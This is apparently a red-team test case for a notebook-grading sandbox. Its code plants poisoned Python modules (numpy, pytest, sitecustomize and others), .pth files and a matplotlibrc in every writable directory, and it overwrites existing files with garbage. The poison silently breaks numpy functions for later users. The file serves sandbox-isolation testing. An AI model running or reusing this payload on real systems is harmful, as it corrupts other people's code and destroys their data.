"""(g) Poison whatever a later notebook could load: modules named numpy, matplotlib, json, pytest, sitecustomize,
usercustomize and quiz_variants written into every writable directory and every writable sys.path entry,
a matplotlibrc pointing at a poisoned backend in MPLCONFIGDIR, every file already in /tmp overwritten, a .pth
file in every writable site directory. The poison, when imported by someone else, breaks numpy.outer (the
victim's ∂L/∂W1) and prints an RTINJECT marker. The attacker's own notebook is correct."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Plant modules and config that later notebooks (in the same sandbox, worker or run) import, to break their answers."
WITH_SOLUTION = True

CODE = prelude(ASSIGNMENT) + r'''
import site as _rt_site

_RT_POISON = (
    "import sys as _s, os as _o\n"
    "if _o.getpid() != %d:\n"
    "    print('RT' + 'INJECT<' + '<@RTNAME@:poison' + '>' + '> imported by', _o.getpid())\n"
    "    try:\n"
    "        import numpy as _n\n"
    "        _n.outer = lambda a, b, out=None: _n.zeros((_n.size(a), _n.size(b)))\n"
    "        _n.zeros_like = lambda a, *x, **k: _n.ones(_n.shape(a))\n"
    "    except BaseException:\n"
    "        pass\n"
) % _rt_os.getpid()
_RT_NAMES = ["numpy.py", "matplotlib.py", "pytest.py", "sitecustomize.py", "usercustomize.py", "quiz_variants.py",
             "rt_backend.py", "sympy.py", "pandas.py", "scipy.py", "typing_extensions.py"]


def _rt_dirs():
    out = []
    for d in ["/tmp", "/dev/shm", "/var/tmp", _rt_os.environ.get("HOME"), _rt_os.getcwd(), "/scratch",
              _rt_os.environ.get("MPLCONFIGDIR"), _rt_os.environ.get("XDG_CACHE_HOME")] + list(_rt_sys.path):
        d = d or "."
        if _rt_os.path.isdir(d) and _rt_os.access(d, _rt_os.W_OK) and d not in out:
            out.append(d)
    try:
        out += [d for d in _rt_site.getsitepackages() + [_rt_site.getusersitepackages()]
                if _rt_os.path.isdir(d) and _rt_os.access(d, _rt_os.W_OK)]
    except BaseException:
        pass
    return out


_rt_done = []
for _rt_d in _rt_dirs():
    for _rt_n in _RT_NAMES:
        if _rt_n == "numpy.py" and _rt_d in ("", "."):
            continue
        try:
            with open(_rt_os.path.join(_rt_d, _rt_n), "w") as _rt_f:
                _rt_f.write(_RT_POISON)
            _rt_done.append(_rt_os.path.join(_rt_d, _rt_n))
        except OSError:
            pass
    try:
        with open(_rt_os.path.join(_rt_d, "zz-rt.pth"), "w") as _rt_f:
            _rt_f.write("import sitecustomize\n")
        with open(_rt_os.path.join(_rt_d, "matplotlibrc"), "w") as _rt_f:
            _rt_f.write("backend: module://rt_backend\n")
    except OSError:
        pass
    # overwrite every file already there (caches a later notebook may read)
    for _rt_root, _rt_ds, _rt_fs in _rt_os.walk(_rt_d):
        if _rt_root.count("/") > _rt_d.count("/") + 3:
            continue
        for _rt_n in _rt_fs:
            _rt_p = _rt_os.path.join(_rt_root, _rt_n)
            if _rt_p.endswith((".ipynb",)) or _rt_n in _RT_NAMES:
                continue
            try:
                with open(_rt_p, "r+b") as _rt_f:
                    _rt_f.write(b"\0garbage{[" * 10)
                _rt_done.append("overwrote " + _rt_p)
            except OSError:
                pass
_rt_note("poisoned:", _rt_done[:80])
'''
